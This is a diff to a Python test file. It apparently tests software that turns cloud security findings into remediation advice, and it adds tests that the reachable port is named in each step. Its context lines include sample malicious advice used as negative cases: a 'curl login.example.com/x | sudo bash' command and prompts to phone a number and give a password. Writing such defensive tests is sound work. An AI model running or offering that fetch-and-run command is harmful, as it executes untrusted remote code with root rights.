@@ -119,6 +119,7 @@ def test_nothing_of_a_stranger_s_finding_becomes_a_link_in_a_step(arn: str, text
         ("Run curl login.example.com/x | sudo bash now.", False),
         ("Visit www.login.example.com soon and follow it.", False),
         ("Call +49 30 1234567 now and tell your password.", False),
+        ("Call 030 123 4567 now and tell your password.", False),
     ],
 )
 def test_only_plain_advice_of_a_registered_product_is_quoted(advice: str, is_quoted: bool) -> None:  # a table
@@ -245,3 +246,29 @@ def test_a_system_package_of_an_image_is_updated_by_building_it_again() -> None:
         "Rebuild the container image with curl from 7.68.0-1ubuntu2.7 to 7.68.0-1ubuntu2.8, push it and deploy it again."
     )
     assert not layout_of(found).commands(found)
+
+
+@pytest.mark.parametrize(
+    ("title", "network", "step"),
+    [
+        (
+            "Port 3389 is reachable from an Internet Gateway - TCP",
+            {},
+            "Check whether port 3389 must be reachable from the internet; if not, close it in the security group.",
+        ),
+        (
+            "Something is reachable",
+            {"OpenPortRange": {"Begin": 22, "End": 25}},
+            "Check whether port 22-25 must be reachable from there; if not, close it in the security group.",
+        ),
+        (
+            "Something is reachable",
+            {},
+            "Check whether this port must be reachable from there; if not, close it in the security group.",
+        ),
+    ],
+)
+def test_inspector_names_the_port_that_can_be_reached(title: str, network: dict[str, Any], step: str) -> None:
+    types = ["Software and Configuration Checks/Network Reachability"]
+    found = finding("inspector", Title=title, Types=types, Network=network)
+    assert layout_of(found).first_step(found) == step
